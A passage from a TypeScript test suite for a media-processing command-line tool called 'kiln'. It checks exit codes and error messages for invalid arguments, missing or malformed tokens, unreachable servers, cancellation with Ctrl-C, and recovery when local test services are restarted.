    assert.deepEqual([images.code, /\.png, \.jpg/.test(images.err)], [2, true], images.err)
    assert.doesNotMatch(films.err + images.err, /task /)
    const left = await readdir(folder)
    assert.deepEqual(
      left.filter((name) => name === 'plain.jpg' || name.endsWith('.part')),
      [],
    )
  })

  test('says by its exit code what went wrong', async () => {
    const away = { env: { KILN_URL: 'http://127.0.0.1:9' } }
    for (const [expected, args, options, reported] of [
      [2, ['relight'], {}, /expected <image>, got 0 arguments\nusage: kiln relight/],
      [2, ['fly'], {}, /no command fly/],
      [2, ['video', 'a', '--bogus'], {}, /no option --bogus: did you mean --set bogus=/],
      [2, ['check', '.', '--remote', '--offline'], {}, /--remote asks the service, and --offline/],
      [2, ['publish', '.'], { env: { KILN_PUBLISH_TOKEN: '' } }, /set KILN_PUBLISH_TOKEN/],
      [3, ['watch', '6b1f9a52-3f1e-4c55-8c7e-0d5a4b7c9e21'], {}, /There is no task/],
      [3, words('relight photo.png --strength 400'), {}, /a number from 0 to 100, got 400/],
      [3, ['relight', 'photo.png'], { env: { KILN_TOKEN: '' } }, /KILN_TOKEN or KILN_API_KEY must/],
      [
        4,
        ['relight', 'photo.png'],
        away,
        /cannot be reached.*\n.*127.0.0.1:9 was.*--url or KILN_URL/,
      ],
      [2, ['relight', 'none.png'], {}, /ENOENT/],
      [2, words('operation start cancel'), {}, /no filter is given: --all acts on all tasks/],
      [2, ['operation', 'start', 'delete', '--prompt', ''], {}, /no filter is given/],
      [2, words('operation start delete --all'), {}, /say --yes to delete/],
      [2, words('operation start cancel --all --state queued'), {}, /all must be absent/],
      [2, words('version delete a@.. --publisher alice --yes'), {}, /an id must not be/],
      [2, ['templates'], { env: { KILN_TOKEN: 's3cr3t\n' } }, /^kiln: KILN_TOKEN must be/],
      [2, ['templates'], { env: { KILN_URL: 'kiln.test' } }, /^kiln: KILN_URL must be/],
      [2, ['templates', '--url', 'http://a:s3cr3t@kiln.test'], {}, /^kiln: --url must be/],
      [2, ['publish', '.', '--token', 's3cr3t '], {}, /^kiln: the personal access token must be/],
      [2, ['check', '.'], {}, /\. is no pack: the file pyproject\.toml cannot be read/],
      [0, ['--help'], {}, /^$/],
    ] as const) {
      const { code, err } = await kiln([...args], options)
      assert.equal(code, expected, err)
      assert.match(err, reported)
      assert.doesNotMatch(err, /s3cr3t/)
    }
  })
})

/** Last, because processes of the service are killed. */
describe('while nothing renders', () => {
  before(() => service.entry('media').kill())

  test('Ctrl-C leaves a task, and says how to go on; watch says that it was cancelled', async () => {
    const left = await kiln(['upscale', 'photo.png'], { stopAt: 'CREATED' })
    assert.equal(left.code, 130, left.err)
    const [, id = ''] = /To go on watching: kiln watch ([\w-]+)\n$/.exec(left.err) ?? []
    const cancelled = await kiln(['cancel', id, '--json'])
    assert.deepEqual(JSON.parse(cancelled.out), { task_id: id, state: 'failed', status: 'FAILED' })
    const watched = await kiln(['watch', id, '--json'])
    assert.equal(watched.code, 1, watched.err)
    assert.match(watched.out, /"error":{"code":"cancelled"/)
  })

  test('a wait outlives the kill of its api, and of the one after', async () => {
    const client = connect()
    const task = await client.skinFaithful({ image: await makePicture({ shade: 9 }) })
    let ended: Promise<EndedTask> | undefined
    await new Promise<void>((resolve) => {
      ended = client.wait(task, { onProgress: () => resolve() })
    })
    await service.entry('api').kill()
    await service.start('api')
    await service.entry('api').kill()
    await Promise.all([service.start('api'), service.start('media')])
    assert.equal((await ended)?.state, 'succeeded')
  })
})
